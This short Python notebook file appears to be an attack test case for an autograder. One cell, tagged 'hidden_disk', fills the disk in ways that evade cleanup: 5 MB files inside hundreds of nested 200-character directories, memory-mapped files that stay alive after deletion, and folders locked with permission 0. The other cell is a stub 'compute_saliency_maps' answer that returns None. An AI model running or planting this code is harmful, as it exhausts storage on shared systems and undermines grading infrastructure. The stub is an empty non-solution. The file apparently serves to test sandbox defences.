# Fills the disk below paths that are too long to name, in locked folders, and in deleted files.
# attacks: hidden_disk
# %%
import mmap
import os

top = os.getcwd()
kept = []
try:
    for n in range(400):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        with open("f", "wb") as stream:
            stream.write(bytes(5 << 20))
        with open("deleted", "w+b") as stream:
            stream.truncate(5 << 20)
            kept.append(mmap.mmap(stream.fileno(), 0))
        os.unlink("deleted")
        os.mkdir(f"{top}/locked{n}")
        with open(f"{top}/locked{n}/f", "wb") as stream:
            stream.write(bytes(5 << 20))
        os.chmod(f"{top}/locked{n}", 0)
        kept[-1][:] = bytes(5 << 20)
except OSError as full:
    print(full)
os.chdir(top)


# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    return None
